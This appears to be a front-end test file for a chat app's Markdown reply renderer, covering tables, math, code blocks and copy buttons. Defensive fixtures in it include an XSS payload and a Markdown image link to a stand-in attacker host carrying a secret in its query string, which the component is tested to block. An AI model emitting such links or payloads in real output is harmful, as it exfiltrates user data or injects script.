import '../../test/dom-setup.ts';
import { fireEvent, render, screen, waitFor } from '@testing-library/react';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { recordNotices } from '../../test/notices.ts';
import { initI18n, loadFullCatalogue } from '../i18n/i18n.ts';
import { MarkdownReply } from './markdown-reply.tsx';

const notices = recordNotices();

beforeAll(async () => {
  await initI18n('en-US');
  await loadFullCatalogue();
});

const rendered = (text: string) => render(<MarkdownReply text={text} />).container;

describe('a reply as Markdown', () => {
  it('lays out tables', () => {
    const table = rendered('| City | Days |\n| --- | --- |\n| Kyoto | 2 |').querySelector('table');
    expect(table?.querySelectorAll('td')[0]?.textContent).toBe('Kyoto');
  });

  it('typesets inline and display math', async () => {
    const page = rendered('Energy is $E = mc^2$.\n\n$$\n\\int_0^1 x\\,dx = \\frac{1}{2}\n$$');
    await waitFor(() => expect(page.querySelectorAll('.katex')).toHaveLength(2));
    expect(page.querySelector('.katex-display')).not.toBeNull();
    // The source stays for screen readers and copying (KaTeX's MathML annotation).
    expect(page.querySelector('annotation')?.textContent).toBe('E = mc^2');
  });

  it('shows math that does not parse as its source, not an error', async () => {
    const page = rendered('$\\frac{1}{$');
    await waitFor(() => expect(page.querySelector('.katex-error')?.textContent).toContain('\\frac{1}{'));
  });

  it('highlights code by its language', async () => {
    const page = rendered('```ts\nconst answer: number = 42; // the answer\n```');
    await waitFor(() => expect(page.querySelector('.hljs-keyword')?.textContent).toBe('const'));
    const code = page.querySelector('pre code');
    expect(code?.className).toContain('language-ts');
    expect(code?.querySelector('.hljs-comment')?.textContent).toBe('// the answer');
  });

  it('labels a code block with its language and copies its code as written', async () => {
    const writeText = vi.fn().mockResolvedValue(undefined);
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    const page = rendered('Run:\n\n```python\nprint("hi")\nprint("there")\n```');
    expect(page.querySelector('.markdown-code__language')?.textContent).toBe('python');
    fireEvent.click(screen.getByRole('button', { name: 'Copy code' }));
    expect(await screen.findByRole('button', { name: 'Copied' })).toBeTruthy();
    expect(writeText).toHaveBeenCalledWith('print("hi")\nprint("there")');
  });

  it('names a code block without a language "Code"', () => {
    const page = rendered('```\nls -la\n```');
    expect(page.querySelector('.markdown-code__language')?.textContent).toBe('Code');
  });

  it('says so when the browser will not copy the code', async () => {
    const writeText = vi.fn().mockRejectedValue(new Error('denied'));
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    rendered('```sh\nls\n```');
    fireEvent.click(screen.getByRole('button', { name: 'Copy code' }));
    await waitFor(() => expect(notices.keys()).toContain('chat.copy_code_failed'));
    expect(screen.queryByRole('button', { name: 'Copied' })).toBeNull();
  });

  it('closes a code block still being written', () => {
    const page = rendered('Here:\n```python\nprint("hi")');
    expect(page.querySelector('pre code')?.textContent).toBe('print("hi")\n');
    expect(page.textContent).not.toContain('```');
  });

  it('keeps raw HTML as text', () => {
    const page = rendered('<img src=x onerror="alert(1)"> <script>alert(2)</script>');
    expect(page.querySelector('img')).toBeNull();
    expect(page.querySelector('script')).toBeNull();
  });

  it('keeps an image from another site behind a placeholder naming its host until it is clicked', () => {
    const page = rendered(
      'Look: ![chart](https://attacker.example/p.png?secret=s3cr3t) and ![](https://cdn.example/b.png)',
    );
    expect(page.querySelector('img')).toBeNull();
    expect(page.innerHTML).not.toContain('attacker.example/p.png');
    const [chart, other] = screen.getAllByRole('button');
    expect(chart?.textContent).toContain('chart');
    expect(chart?.textContent).toContain('Load image from attacker.example');

    fireEvent.click(chart as HTMLElement);
    const images = page.querySelectorAll('img');
    expect(images).toHaveLength(1);
    expect(images[0]?.getAttribute('src')).toBe(
      `/api/chat/image-proxy?url=${encodeURIComponent('https://attacker.example/p.png?secret=s3cr3t')}`,
    );
    // Each image waits for its own click.
    expect(other?.isConnected).toBe(true);
  });

  it('does not load our own image proxy by itself either', () => {
    const page = rendered('![](/api/chat/image-proxy?url=https%3A%2F%2Fattacker.example%2F%3Fs%3D1)');
    expect(page.querySelector('img')).toBeNull();
  });

  it('loads our own uploads as before', () => {
    const page = rendered(
      `![photo](/api/upload/files/abcdefghijklmnopqrstuv.png) ![abs](${window.location.origin}/api/upload/files/bcdefghijklmnopqrstuvw.jpg)`,
    );
    const sources = [...page.querySelectorAll('img')].map((img) => img.getAttribute('src'));
    expect(sources).toEqual([
      '/api/upload/files/abcdefghijklmnopqrstuv.png',
      `${window.location.origin}/api/upload/files/bcdefghijklmnopqrstuvw.jpg`,
    ]);
  });

  it('offers the original when the proxy cannot load the image', async () => {
    const page = rendered('![x](https://gone.example/x.png)');
    fireEvent.click(screen.getByRole('button'));
    fireEvent.error(page.querySelector('img') as HTMLImageElement);
    const link = await screen.findByRole('link');
    expect(link.getAttribute('href')).toBe('https://gone.example/x.png');
    expect(link.getAttribute('rel')).toContain('noreferrer');
  });
});
